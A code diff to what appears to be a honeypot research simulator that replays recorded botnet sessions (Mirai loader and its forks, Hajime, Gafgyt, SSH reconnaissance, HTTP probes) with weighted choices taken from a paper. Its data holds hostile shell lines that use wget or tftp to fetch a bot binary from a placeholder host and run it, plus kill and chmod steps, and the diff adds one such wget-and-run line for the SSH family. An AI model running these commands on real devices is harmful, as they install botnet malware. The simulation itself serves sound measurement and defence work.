@@ -18,13 +18,16 @@ constexpr DialogueLine kMiraiScanner[] = {
     {.text = "/bin/busybox MIRAI{0}"},
 };
 
-// Openings (paper §3.4): how sessions walk out of a device CLI. Group 1 of the loader, probe
-// and Hajime tables: 0 enable-system-shell-sh, 1 enable-shell-sh, 2 system-shell-sh,
-// 3 shell-sh — weighted so that, as in Table 1, shell = sh > system > enable.
-#define BUSYTRAP_OPENING_LINES                                                  \
-  {.text = "enable", .group = 1, .options = in(0, 1)},                          \
-  {.text = "system", .group = 1, .options = in(0, 2), .not_found = "system"},   \
-      {.text = "shell", .not_found = "shell"}, {.text = "sh"}
+// Openings (paper §3.4): how sessions walk out of a device CLI, played before a family's own
+// lines. Group 1 of the loader, probe and Hajime choices: 0 enable-system-shell-sh,
+// 1 enable-shell-sh, 2 system-shell-sh, 3 shell-sh — weighted so that, as in Table 1,
+// shell = sh > system > enable.
+constexpr DialogueLine kDeviceCliOpening[] = {
+    {.text = "enable", .group = 1, .options = in(0, 1)},
+    {.text = "system", .group = 1, .options = in(0, 2), .not_found = "system"},
+    {.text = "shell", .not_found = "shell"},
+    {.text = "sh"},
+};
 
 // --- Mirai loader (loader/src/server.c) and its forks that only changed the token (ECCHI,
 // BAT). Group 0: upload method (wget, tftp, echo); group 1: opening (the original loader sends
@@ -38,7 +41,6 @@ constexpr ChoiceGroup kForkChoices[] = {
     {{40, 28, 72, 32}},
 };
 constexpr DialogueLine kMiraiLoader[] = {
-    BUSYTRAP_OPENING_LINES,
     {.text = "/bin/busybox {T}"},
     {.text = "/bin/busybox ps; /bin/busybox {T}"},
     {.text = "/bin/busybox kill -9 {P}"},
@@ -58,7 +60,7 @@ constexpr DialogueLine kMiraiLoader[] = {
      .group = 0, .options = in(0), .download_url = "http://{H}:80/bins/mirai.{A}"},
     {.text = "/bin/busybox tftp -g -l dvrHelper -r mirai.{A} {H}; /bin/busybox chmod 777 dvrHelper; "
              "/bin/busybox {T}",
-     .group = 0, .options = in(1)},
+     .group = 0, .options = in(1), .download_url = "tftp://{H}/mirai.{A}"},
     {.text = "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox {T}",
      .group = 0, .options = in(2)},
     {.text = "echo -ne '{C}' {R} upnp; /bin/busybox {T}", .repeat = Repeat::kPerChunk, .group = 0,
@@ -90,7 +92,6 @@ constexpr DialogueLine kGafgyt[] = {
 // --- Hajime-lineage `.s` loader, after the real session in
 // shared/data/real/honeylist-cowrie-2019-07-08.json (random 5-capital token per session).
 constexpr DialogueLine kHajimeS[] = {
-    BUSYTRAP_OPENING_LINES,
     {.text = "cat /proc/mounts; /bin/busybox {T}"},
     {.text = "cd {W}; cat .s || cp /bin/echo .s; /bin/busybox {T}"},
     {.text = "tftp; wget; /bin/busybox {T}"},
@@ -100,13 +101,11 @@ constexpr DialogueLine kHajimeS[] = {
     {.text = "rm .s; exit"},
 };
 
-// --- Bots that only check that they reach a shell, then leave.
-constexpr DialogueLine kShellProbe[] = {BUSYTRAP_OPENING_LINES};
-
-#undef BUSYTRAP_OPENING_LINES
+// --- Bots that only check that they reach a shell (the opening), then leave.
 
 // --- SSH bots that log in and run reconnaissance (group 0: the SSH-key implant line or a
-// multi-line exec command, which Cowrie logs as one input containing newlines).
+// multi-line exec command, which Cowrie logs as one input containing newlines), sometimes
+// followed by a download through `sh -c '…'`.
 constexpr ChoiceGroup kSshExecChoices[] = {{{60, 40, 0, 0}}};
 constexpr DialogueLine kSshExec[] = {
     {.text = "uname -a", .percent = 50},
@@ -120,6 +119,21 @@ constexpr DialogueLine kSshExec[] = {
      .group = 0, .options = in(0)},
     {.text = "cat /proc/cpuinfo | grep name | wc -l{L}uname -s -v -n -r -m{L}free -m | grep Mem",
      .group = 0, .options = in(1)},
+    // A `;` inside quotes: one command line for the paper's splitter, not three.
+    {.text = "sh -c 'cd /tmp; wget http://{H}/x.sh; sh x.sh'", .percent = 40,
+     .download_url = "http://{H}/x.sh"},
+};
+
+// --- HTTP clients that hit the Telnet port: the request line and the Host header pass as
+// username and password (the honeypot accepts any login), the other headers and the final
+// empty line are logged as commands — one with an unquoted `;`, one empty.
+constexpr DialogueLine kHttpProbe[] = {
+    {.text = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
+             "Gecko) Chrome/58.0.3029.110 Safari/537.36"},
+    {.text = "Accept: */*"},
+    {.text = "Accept-Encoding: gzip, deflate"},
+    {.text = "Connection: keep-alive"},
+    {.text = ""},
 };
 
 // Session weights: per thousand sessions of the paper's week, roughly. The Mirai scanner tries
@@ -131,19 +145,22 @@ constexpr Family kFamilies[] = {
      .choices = {}, .lines = kMiraiScanner},
     {.name = "bat-loader", .weight = 28, .protocol = Protocol::kTelnet, .token = "BAT",
      .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 0, .nul_percent = 0,
-     .choices = kForkChoices, .lines = kMiraiLoader},
+     .choices = kForkChoices, .opening = kDeviceCliOpening, .lines = kMiraiLoader},
     {.name = "mirai-loader", .weight = 10, .protocol = Protocol::kTelnet, .token = "ECCHI",
      .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 0, .nul_percent = 0,
-     .choices = kLoaderChoices, .lines = kMiraiLoader},
+     .choices = kLoaderChoices, .opening = kDeviceCliOpening, .lines = kMiraiLoader},
     {.name = "gafgyt", .weight = 42, .protocol = Protocol::kTelnet, .token = "",
      .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 3, .nul_percent = 0,
      .choices = kGafgytChoices, .lines = kGafgyt},
     {.name = "hajime-s", .weight = 8, .protocol = Protocol::kTelnet, .token = "",
      .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 2, .nul_percent = 0,
-     .choices = kForkChoices, .lines = kHajimeS},
+     .choices = kForkChoices, .opening = kDeviceCliOpening, .lines = kHajimeS},
     {.name = "shell-probe", .weight = 60, .protocol = Protocol::kTelnet, .token = "",
      .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 2, .nul_percent = 0,
-     .choices = kForkChoices, .lines = kShellProbe},
+     .choices = kForkChoices, .opening = kDeviceCliOpening, .lines = {}},
+    {.name = "http-probe", .weight = 2, .protocol = Protocol::kTelnet, .token = "",
+     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 0, .nul_percent = 0,
+     .choices = {}, .lines = kHttpProbe, .username = "GET / HTTP/1.1", .password = "Host: 10.3.66.85"},
     {.name = "ssh-exec", .weight = 5, .protocol = Protocol::kSsh, .token = "",
      .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 3, .nul_percent = 0,
      .choices = kSshExecChoices, .lines = kSshExec},
